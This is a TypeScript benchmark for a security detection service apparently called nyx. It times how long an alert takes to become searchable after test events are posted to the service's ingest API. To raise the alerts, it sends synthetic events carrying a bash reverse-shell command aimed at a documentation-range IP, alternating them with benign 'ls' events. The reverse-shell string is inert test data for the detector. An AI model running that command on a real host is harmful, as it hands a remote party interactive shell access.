// Alert latency on the stream path: p50/p95/p99 from `POST /api/ingest` (a real `nyx serve` process with the
// Sigma stream matcher) to the alert document being searchable in nyx-alerts-<namespace>. Side by side
// (alternating): the same POST with a benign event (no alert) — the ingest round trip the alert path rides on.
// Args: --requests N (alert-raising requests, default 200)
import { loadConfig } from '../src/config/index.ts';
import { connectElastic } from '../src/elastic/connect.ts';
import { runBootstrap } from '../src/bootstrap/index.ts';
import { enrollBenchAgent, startBenchServe } from './_serve.ts';


function percentiles(ms: number[]): { p50_ms: number; p95_ms: number; p99_ms: number; max_ms: number } {
  const s = [...ms].sort((a, b) => a - b);
  const at = (p: number): number => Number(s[Math.min(s.length - 1, Math.floor((p / 100) * s.length))]!.toFixed(1));
  return { p50_ms: at(50), p95_ms: at(95), p99_ms: at(99), max_ms: Number(s.at(-1)!.toFixed(1)) };
}

export async function run(args: string[]): Promise<object> {
  const at = args.indexOf('--requests');
  const requests = at >= 0 ? Number(args[at + 1]) : 200;
  const env = { ELASTICSEARCH_URL: process.env.ELASTICSEARCH_URL ?? '' };
  const { config, secrets } = loadConfig({ env });
  const ctx = await connectElastic(config, secrets);
  try {
    await runBootstrap(ctx, config);
  } catch (err) {
    // Another capability's asset may be refused; the alert and data-stream templates are what this needs.
    if (!(await ctx.client.indices.existsIndexTemplate({ name: 'nyx-alerts' }))) throw err;
    process.stderr.write(`# bootstrap incomplete (${(err as Error).message.slice(0, 100)}…); alert templates present\n`);
  }
  const ns = `bench_alat_${Date.now() % 1_000_000}`;
  const serve = await startBenchServe(env.ELASTICSEARCH_URL);
  const url = serve.url;
  const rulesLine = /stream detection: [^\n]*/.exec(serve.stderr())?.[0] ?? 'stream detection: (not reported)';
  try {
    const enrolled = await enrollBenchAgent(ctx.client, config, url, ns, 'lat-host');
    const post = async (event: Record<string, unknown>): Promise<number> => {
      const res = await fetch(`${url}/api/ingest`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-agent-key': enrolled.agent_key }, body: JSON.stringify(event) });
      if (res.status !== 200) throw new Error(`ingest answered ${res.status}: ${await res.text()}`);
      const body = (await res.json()) as { stored: number };
      return body.stored;
    };
    process.stderr.write(`# nyx serve at ${url} (${rulesLine}); ${requests} alert requests, alternating with benign ones\n`);
    const alertMs: number[] = [];
    const benignMs: number[] = [];
    let polls = 0;
    for (let i = 0; i < requests; i++) {
      const ts = new Date().toISOString();
      // Each alert on its own host: a new alert id every time (no suppression).
      const host = `lat-${i}`;
      const t0 = performance.now();
      await post({ ts, category: 'commandline', host, user: 'www-data', cmd: `bash -i >& /dev/tcp/203.0.113.5/${4000 + (i % 1000)} 0>&1`, seq: 2 * i });
      for (;;) {
        polls++;
        const res = await ctx.client.count({ index: `nyx-alerts-${ns}`, ignore_unavailable: true, allow_no_indices: true, query: { term: { 'nyx.alert.entity': host } } });
        if (res.count > 0) break;
        if (performance.now() - t0 > 30_000) throw new Error(`no alert for ${host} after 30s`);
        await new Promise((r) => setTimeout(r, 5));
      }
      alertMs.push(performance.now() - t0);
      const t1 = performance.now();
      await post({ ts, category: 'commandline', host: `ok-${i}`, user: 'www-data', cmd: `ls -la /srv/app/${i}`, seq: 2 * i + 1 });
      benignMs.push(performance.now() - t1);
      if ((i + 1) % 50 === 0) process.stderr.write(`# ${i + 1}/${requests}\n`);
    }
    const alert = percentiles(alertMs);
    const benign = percentiles(benignMs);
    return {
      benchmark: 'alert-latency',
      requests,
      path: 'POST /api/ingest → stream matcher (ingest hook) → nyx-alerts-<ns> searchable',
      stream_detection: rulesLine,
      alert_latency: alert,
      baseline: { what: 'POST /api/ingest of a benign event (no alert), same server, alternating', ...benign },
      ratio_p50: Number((alert.p50_ms / benign.p50_ms).toFixed(2)),
      ratio_p95: Number((alert.p95_ms / benign.p95_ms).toFixed(2)),
      searches_per_alert: Number((polls / requests).toFixed(2)),
      target: { p95_ms_max: 1000 },
      met: alert.p95_ms < 1000,
    };
  } finally {
    await serve.stop();
    await ctx.client.close();
  }
}
